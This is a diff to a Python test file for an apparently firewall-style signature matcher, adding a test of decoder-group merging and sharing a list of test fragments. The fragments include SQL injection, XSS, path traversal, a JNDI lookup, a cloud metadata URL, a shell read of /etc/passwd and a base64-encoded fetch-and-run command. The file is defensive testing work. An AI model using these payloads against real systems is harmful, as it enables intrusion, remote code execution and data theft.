@@ -409,6 +409,41 @@ def _assert_sound_candidates(rules: RuleSet, text: str, found: set[int], alone: 
 # --- batching is invisible -----------------------------------------------------------------------------
 
 
+_FRAGMENTS = [
+    "hello",
+    "O'Brien",
+    "a+b@example.com",
+    "%27%20or%201=1",
+    "&lt;script&gt;",
+    "\\x3cscript",
+    "\\u0027",
+    "\\",
+    "/*",
+    "*/",
+    "${IFS}",
+    "{cat,/etc/passwd}",
+    "c'a't",
+    "../../",
+    "..\\..\\",
+    "ＳＥＬＥＣＴ",
+    "Y3VybCBodHRwOi8vZXZpbC5zaHxzaA==",
+    "union select",
+    "<img src=x onerror=alert(1)>",
+    "\t\n",
+    "\x00",
+    "http://169.254.169.254/",
+    "${jndi:ldap://x}",
+    "{{7*7}}",
+    " ",
+    "'",
+    '"',
+    "%",
+    "&",
+    "#",
+]
+"""Tricky pieces of fields: escapes, comments left open, ${...}, quotes, base64, look-alikes."""
+
+
 def test_fields_judged_together_keep_every_candidate_they_get_alone(bundled_signatures: tuple[Signature, ...]) -> None:
     """Fields share automaton scans per record: for random records of tricky fragments (escapes,
     comments left open, ${...}, quotes, base64, look-alikes) each field keeps every strict candidate
@@ -417,42 +452,10 @@ def test_fields_judged_together_keep_every_candidate_they_get_alone(bundled_sign
     from firewall.engine.matcher import record_candidates
 
     rules = compile_signatures(bundled_signatures, paranoia=4, screen=False)
-    fragments = [
-        "hello",
-        "O'Brien",
-        "a+b@example.com",
-        "%27%20or%201=1",
-        "&lt;script&gt;",
-        "\\x3cscript",
-        "\\u0027",
-        "\\",
-        "/*",
-        "*/",
-        "${IFS}",
-        "{cat,/etc/passwd}",
-        "c'a't",
-        "../../",
-        "..\\..\\",
-        "ＳＥＬＥＣＴ",
-        "Y3VybCBodHRwOi8vZXZpbC5zaHxzaA==",
-        "union select",
-        "<img src=x onerror=alert(1)>",
-        "\t\n",
-        "\x00",
-        "http://169.254.169.254/",
-        "${jndi:ldap://x}",
-        "{{7*7}}",
-        " ",
-        "'",
-        '"',
-        "%",
-        "&",
-        "#",
-    ]
     rng = random.Random(2026)
     for _ in range(150):
         items = [
-            (f"f{i}", "".join(rng.choice(fragments) for _ in range(rng.randint(1, 5))))
+            (f"f{i}", "".join(rng.choice(_FRAGMENTS) for _ in range(rng.randint(1, 5))))
             for i in range(rng.randint(2, 12))
         ]
         items += [(f"again{i}", text) for i, (_, text) in enumerate(items[:3])]  # recurring texts
@@ -464,6 +467,59 @@ def test_fields_judged_together_keep_every_candidate_they_get_alone(bundled_sign
         one_by_one = {(hit.path, hit.signature.index) for item in items for hit in inspect_fields(rules, [item]).hits}
         assert hits <= one_by_one, items  # a record reports each signature in its first fields only
         assert {index for _, index in hits} == {index for _, index in one_by_one}, items
+
+
+def test_a_small_group_is_decoded_with_a_wider_one(
+    bundled_signatures: tuple[Signature, ...], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Texts whose acting decoders are all among those of a wider group of the record are decoded
+    with that group (`_merged`): each keeps every strict candidate and gains none it would not get
+    on its own, and the record gets the hits it gets with no group merged."""
+    from firewall.engine import matcher
+    from firewall.engine.matcher import record_candidates
+
+    url, cmdline, nfkc = frozenset({"url_decode"}), frozenset({"cmdline_normalize"}), frozenset({"unicode_nfkc"})
+    groups = {url: ["a+b@example.com"], url | cmdline: ["it's 12%"], cmdline: ["O'Brien-Smith"], nfkc: ["Kraków"]}
+    widest = ["it's 12%", "a+b@example.com", "O'Brien-Smith"]
+    assert matcher._merged(groups) == {url | cmdline: widest, nfkc: ["Kraków"]}
+    monkeypatch.setattr(matcher, "MERGED_LENGTH", len("it's 12%"))  # the others are too long to merge
+    assert matcher._merged(groups) == groups
+
+    rules = compile_signatures(bundled_signatures, paranoia=4, screen=False)
+    merges: list[bool] = []
+    whole = matcher._merged
+
+    def counted(groups: dict[frozenset[str], list[str]]) -> dict[frozenset[str], list[str]]:
+        merged = whole(groups)
+        merges.append(len(merged) < len(groups))
+        return merged
+
+    monkeypatch.setattr(matcher, "_merged", counted)
+    rng = random.Random(41)
+    records = [
+        [  # the entity's group must not join the other (decoders that change nothing there wake none)
+            ("a", "&lt;script&gt;alert(1)&lt;/script&gt;"),
+            ("b", "100% costs $5"),
+            ("c", "90% costs $4"),
+        ]
+    ]
+    for _ in range(150):
+        records.append(
+            [
+                (f"f{i}", "".join(rng.choice(_FRAGMENTS) for _ in range(rng.randint(1, 5))))
+                for i in range(rng.randint(2, 12))
+            ]
+        )
+    for items in records:
+        monkeypatch.setattr(matcher, "MERGED_LENGTH", 0)
+        apart_hits = {(hit.path, hit.signature.index) for hit in inspect_fields(rules, items).hits}
+        monkeypatch.setattr(matcher, "MERGED_LENGTH", 8192)
+        together, _ = record_candidates(rules, items)
+        for index, (path, text) in enumerate(items):
+            alone, _ = record_candidates(rules, [(path, text)])
+            _assert_sound_candidates(rules, text, together.get(index, set()), alone.get(0, set()))
+        assert {(hit.path, hit.signature.index) for hit in inspect_fields(rules, items).hits} == apart_hits, items
+    assert sum(merges) >= 100  # groups merged in most of the records' inspections
 
 
 def test_a_decoder_woken_by_another_is_still_applied(make_sig: SigFactory) -> None:
